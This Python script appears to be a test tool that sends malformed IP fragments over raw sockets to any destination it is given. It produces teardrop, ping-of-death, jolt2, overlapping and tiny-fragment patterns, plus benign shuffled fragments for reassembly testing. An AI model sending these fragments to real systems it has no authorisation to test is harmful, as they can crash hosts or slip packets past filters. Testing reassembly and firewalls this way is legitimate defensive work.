"""fragments.py KIND DESTINATION   sends fragments through raw sockets: such as no stack makes, and honest ones in `disorder`.

Twenty datagrams of a kind, 20 ms apart, each with an identification of its own: what another kind left unfinished must not
complete them. The sizes of `teardrop` and `jolt2` are those of the programs that gave these attacks their names.
"""
import random
import socket
import struct
import sys
import time

kind, destination = sys.argv[1:]
ipv6 = ":" in destination
family = socket.AF_INET6 if ipv6 else socket.AF_INET
# The kernel makes the IPv6 header itself; of IPv4 it fills in source, length and checksum.
wire = socket.socket(family, socket.SOCK_RAW, 44 if ipv6 else socket.IPPROTO_RAW)

ICMP, TCP, UDP = 58 if ipv6 else 1, 6, 17
KINDS = "teardrop", "overlap", "ping-of-death", "jolt2", "duplicate", "tiny", "disorder", "options"


def send(number, protocol, offset, more, data):
    identification = 2000 * (1 + KINDS.index(kind)) + number
    if ipv6:
        header = struct.pack("!BBHI", protocol, 0, offset | more, identification)
    else:
        field = offset >> 3 | more << 13
        address = socket.inet_pton(family, destination)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, identification, field, 64, protocol, 0, bytes(4), address)
    wire.sendto(header + data, (destination, 0))


def udp(length):
    return struct.pack("!HHHH", 4000, 33, length, 0) + bytes(length - 8)


def syn(dport):
    return struct.pack("!HHIIBBHHH", 40000, dport, 1, 0, 0x50, 2, 1024, 0, 0)


def teardrop(number):
    """The second fragment ends within the first; and the first has an odd length."""
    send(number, UDP, 0, 1, udp(64)[:36])
    send(number, UDP, 24, 0, bytes(4))


def overlap(number):
    """The second fragment rewrites the control bits that the first one showed to a filter (RFC 3128, RFC 5722)."""
    send(number, TCP, 0, 1, syn(number)[:16] + bytes(16))
    send(number, TCP, 8, 0, syn(number)[8:20] + bytes(12))


def ping_of_death(number):
    """An echo request of more than 65535 octets, in its last three fragments."""
    for offset in (62560, 64000, 65440):
        send(number, ICMP, offset, int(offset != 65440), bytes(1440 if offset != 65440 else 104))


def jolt2(number):
    """The same fragment again and again, which claims to end past the last octet."""
    send(0, ICMP, 65520, 0, bytes(48))


def duplicate(number):
    """Each fragment twice."""
    datagram = udp(64)
    for start in (0, 0, 32, 32):
        send(number, UDP, start, int(start == 0), datagram[start:start + 32])


def tiny(number):
    """The ports in the first fragment, the control bits in the second one (RFC 1858)."""
    segment = syn(number)
    send(number, TCP, 0, 1, segment[:8])
    send(number, TCP, 8, 0, segment[8:])


def options(number):
    """IPv6: the first fragment holds destination options besides UDP; the second one rewrites its last 8 octets."""
    send(number, 60, 0, 1, struct.pack("!BBBBI", UDP, 0, 1, 4, 0) + udp(64)[:16])
    send(number, 60, 16, 0, bytes(8))


def disorder(number):
    """A datagram in parts of random sizes, the next one begun before it is complete: honest, whatever the network did."""
    order = random.Random(number)
    for datagram in number, number + 1000:
        octets = udp(1400)
        cuts = sorted(order.sample(range(8, 1400, 8), 5))
        parts.extend((datagram, start, end, octets[start:end]) for start, end in zip([0, *cuts], [*cuts, 1400]))
    order.shuffle(parts)
    for _ in range(9 if number < 20 else len(parts)):
        datagram, start, end, octets = parts.pop()
        send(datagram, UDP, start, int(end < 1400), octets)


parts = []
for number in range(1, 21):
    globals()[kind.replace("-", "_")](number)
    time.sleep(0.02)
